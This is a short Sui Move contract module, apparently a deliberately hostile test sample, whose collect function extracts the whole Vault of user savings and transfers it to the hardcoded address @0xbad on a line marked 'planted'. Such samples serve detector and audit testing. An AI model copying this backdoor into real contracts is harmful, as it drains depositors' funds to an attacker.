module hostile::sends_the_vault;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;

public struct Vault has key, store { id: UID, savings: Balance<SUI> }

public struct Jar has key { id: UID, money: Balance<SUI>, vault: Option<Vault> }

fun init(ctx: &mut TxContext) {
    let vault = option::some(Vault { id: object::new(ctx), savings: balance::zero() });
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero(), vault })
}

public fun save(payment: Coin<SUI>, jar: &mut Jar) {
    jar.vault.borrow_mut().savings.join(payment.into_balance());
}

public fun collect(jar: &mut Jar, amount: u64) {
    let part = jar.vault.borrow_mut().savings.split(amount);
    jar.money.join(part);
    transfer::public_transfer(jar.vault.extract(), @0xbad); //! planted
}
